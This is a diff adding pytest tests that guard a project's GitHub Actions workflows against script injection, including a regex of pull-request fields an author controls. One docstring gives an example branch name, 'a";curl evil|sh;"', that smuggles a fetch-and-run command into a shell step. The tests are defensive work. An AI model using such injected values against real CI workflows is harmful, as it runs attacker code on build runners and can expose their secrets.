@@ -8,6 +8,7 @@ import shutil
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
@@ -142,3 +143,42 @@ def test_dependabot_moves_the_pins(path: Path, ecosystems: set[str]) -> None:
     for update in updates.values():
         assert update["directory"] == "/"
         assert update["schedule"]["interval"] in {"daily", "weekly", "monthly"}
+
+
+#: What the author of a pull request or a push chooses: a branch name, a title, a commit
+#: message, a label... (a SHA, a repository variable or a step's output is not in the list)
+UNTRUSTED = re.compile(r"github\.head_ref|github\.event\.(?!pull_request\.base\.sha\b|before\b)"
+                       r"[\w.]*(title|body|message|name|label|email|ref|head_commit|commits|"
+                       r"pages|review|comment|issue)", re.IGNORECASE)
+
+
+def steps_of(workflow: dict[str, Any]) -> list[dict[str, Any]]:
+    return [s for job in workflow["jobs"].values() for s in job.get("steps", [])]
+
+
+@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=workflow_id)
+def test_no_expression_reaches_a_shell_and_nothing_untrusted_is_expanded(path: Path) -> None:
+    """A ``${{ }}`` in a ``run:`` script is pasted into the shell before it runs: a branch
+    named ``a";curl evil|sh;"`` would run. Every value reaches a script through ``env:``,
+    and no value a pull request's author chooses is expanded anywhere."""
+    text = path.read_text("utf-8")
+    steps = steps_of(yaml.safe_load(text))
+    scripts = [s["run"] for s in steps if "run" in s]
+    assert scripts
+    assert not [run for run in scripts if "${{" in run]
+    expressions = re.findall(r"\$\{\{(.*?)\}\}", text, re.S)
+    assert expressions and not [e for e in expressions if UNTRUSTED.search(e)]
+
+
+def test_the_summary_takes_only_the_report_in_a_code_block() -> None:
+    """The scaffolded step appends ``hexcrawl public --format markdown``'s standard output
+    alone (warnings go to the log), with no hooks on a pull request: what a location says
+    stays in the report's ``diff`` block (tests/test_public.py)."""
+    workflow = yaml.safe_load((SCAFFOLD_GITHUB / "workflows" / "site.yml").read_text("utf-8"))
+    [step] = [s for s in steps_of(workflow) if "GITHUB_STEP_SUMMARY" in s.get("run", "")]
+    run = step["run"]
+    assert "--format markdown" in run and "options+=(--no-hooks)" in run
+    [line] = [line for line in run.splitlines() if "GITHUB_STEP_SUMMARY" in line]
+    assert line.strip() == 'hexcrawl public "${options[@]}" >> "$GITHUB_STEP_SUMMARY"'
+    assert step["env"] == {
+        "BEFORE": "${{ github.event.pull_request.base.sha || github.event.before }}"}
